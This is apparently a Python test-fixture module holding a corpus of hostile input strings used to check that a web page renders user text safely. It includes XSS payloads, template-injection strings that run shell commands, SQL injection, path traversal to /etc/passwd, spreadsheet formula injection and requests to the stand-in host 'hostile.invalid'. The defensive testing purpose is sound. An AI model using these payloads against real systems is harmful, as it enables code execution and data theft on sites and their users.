"""Texts that would do harm in a page that took them for anything but text.

Whatever could run sets `window.__pwned` or asks a foreign host, so that a test can see it; a
template that is rendered leaves `MARK` behind, a command that is run the file `TOUCHED`.
"""

from __future__ import annotations

FOREIGN = "hostile.invalid"
MARK = "mark49"
TOUCHED = "PWNED"
RUN = "window.__pwned=parent.__pwned=top.__pwned=1"
LONG = 10_000

FAMILIES: dict[str, tuple[str, ...]] = {
    "script": (
        f"<script>{RUN}</script>",
        f"<ScRiPt>{RUN};alert(1)</sCrIpT>",
        f"<script src=https://{FOREIGN}/x.js></script>",
        f'"><script>{RUN}</script>',
        f"</script><script>{RUN}</script>",
        f"<svg><script>{RUN}</script></svg>",
        f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
        f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
        f"%3Cscript%3E{RUN}%3C/script%3E",
    ),
    "handler": (
        f"<img src=x onerror={RUN}>",
        f"<svg onload={RUN}>",
        f"<details open ontoggle={RUN}>x</details>",
        f"<input autofocus onfocus={RUN}>",
        f"<video><source onerror={RUN}></video>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
        f'" onmouseover="{RUN}" x="',
        f"' autofocus onfocus='{RUN}",
        f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;<svg onload={RUN}>">',
    ),
    "element": (
        f"<img src=https://{FOREIGN}/pixel.png>",
        f"<link rel=stylesheet href=https://{FOREIGN}/x.css>",
        f'<base href="https://{FOREIGN}/">',
        f'<meta http-equiv="refresh" content="0;url=https://{FOREIGN}/">',
        f'<a href="javascript:{RUN}">text</a>',
    ),
    "template": (
        "{{ 'mark' ~ 7 * 7 }}",
        "{% print('mark' ~ 7 * 7) %}",
        "{% endmacro %}{{ 'mark' ~ 7 * 7 }}",
        "{# comment #}",
        f"{{{{ cycler.__init__.__globals__.os.system('touch {TOUCHED}') }}}}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}"
        f"{{{{ lipsum.__globals__.os.popen('touch {TOUCHED}').read() }}}}",
        f"{{{{constructor.constructor('{RUN}')()}}}}",
        f"${{{RUN}}}",
        "${'mark' + 7 * 7}",
        "#{'mark' + (7 * 7).to_s}",
        "<%= 'mark' + (7 * 7) %>",
        f"{{__import__('os').system('touch {TOUCHED}')}}",
        "{0.__class__.__init__.__globals__} %(x)s %s %n",
    ),
    "command": (
        f"$(touch {TOUCHED}) `touch {TOUCHED}`; touch {TOUCHED} #",
        "'; DROP TABLE events; --",
        "../../../../etc/passwd",
        "file:///etc/passwd",
    ),
    "breakout": (
        f"`;{RUN};`",
        "</script>",
        "</style>",
        "</title></textarea></iframe></template>",
        "<!--",
        "--> ]]> */",
        "\\",
        "\\u2028\\x3c\\'\\\"",
    ),
    "address": (
        f"javascript:{RUN}",
        f"JaVaScRiPt://%0a{RUN}",
        f"data:text/html,<script>{RUN}</script>",
        f"//{FOREIGN}/x",
    ),
    "style": (
        "</style><style>*{display:none!important}</style>",
        f"red;}}*{{background:url(https://{FOREIGN}/x.png)}}",
        f"@import url(//{FOREIGN}/x.css);",
    ),
    "markdown": (
        f"[text](javascript:{RUN})",
        f"![text](https://{FOREIGN}/x.png)",
        "# heading",
        "| a | b | |---|---|",
        "**bold** _it_ ~~out~~ `code` > quote",
        ":material/delete: :smile: :red[red] :rainbow-background[text]",
        "$\\LaTeX{} \\href{javascript:1}{x}$ and $$x^2$$",
        f"<https://{FOREIGN}/>",
    ),
    "entity": (
        f"&lt;script&gt;{RUN}&lt;/script&gt;",
        f"&#60;img src=x onerror={RUN}&#x3e;",
        "&amp;lt; &nbsp; &NewLine; &no-such; &",
    ),
    "quote": (
        "\"'`",
        "«»„“”‚‘’‹›「」",
        '"",""";',
    ),
    "separator": (
        "a\x85b\x9b31mc",
        "a\ufeffb\ufffe\uffffc\ufffd",
    ),
    "direction": (
        "\u202eesrever\u202c",
        "unclosed \u202e\u2067override",
        "\u200fعربي עברית\u200e (2016)",
    ),
    "invisible": (
        "zero\u200bwidth\u200c\u200d\u2060\u00adtext",
        "\u200b",
        "tags\U000e0041\U000e007f and \u3164 fillers",
    ),
    "combining": (
        "Z" + "\u0300\u0323\u0336\u0489" * 60 + "algo",
        "e\u0301 is not \u00e9",
    ),
    "emoji": (
        "👨‍👩‍👧‍👦 🏳️‍🌈 🇦🇲 👍🏽 1️⃣",
        "𝒳𝕏 İıßﬀ ＜script＞ ＇",
    ),
    "long": (
        "A" * LONG,
        ("<b>" * LONG)[:LONG],
    ),
    "formula": (
        "=cmd|' /C calc'!A0",
        f'=HYPERLINK("https://{FOREIGN}/","x")',
        "+1+1",
        "@SUM(1,1)",
    ),
    "name": (
        "__proto__",
        "constructor",
        "toString",
        "hasOwnProperty",
        '{"__proto__":{"__pwned":1}}',
    ),
    "nothing": (
        "NA",
        "null",
        "NaN",
        "undefined",
        "None",
        "0",
        "false",
        "-1",
        "[object Object]",
        "٢٠١٦",
    ),
    # What the record refuses; a link may still carry it.
    "control": (
        "nul\x00byte",
        "bell\x07 escape\x1b[31m delete\x7f",
        "tab\there",
        "line\nbreak",
        "carriage\r\nreturn",
        "line\u2028and\u2029paragraph",
        " space before",
        "space after\u00a0",
        "\ufeffmark first",
    ),
    "surrogate": (
        "lone \ud800 high",
        "\udc00",
    ),
}

CORPUS: tuple[str, ...] = tuple(text for texts in FAMILIES.values() for text in texts)

# Values of a link that are no text at all before they are decoded.
RAW_LINK_VALUES = (
    "%",
    "%zz",
    "%00",
    "%FF%FE",
    "%C0%AF",
    "%ED%A0%80",
    "%ED%A0%80%ED%B0%80",
    "%F4%90%80%80",
    "+%2B%20",
    "%u0041",
    "a;b",
    "a=b=c",
    "",
)
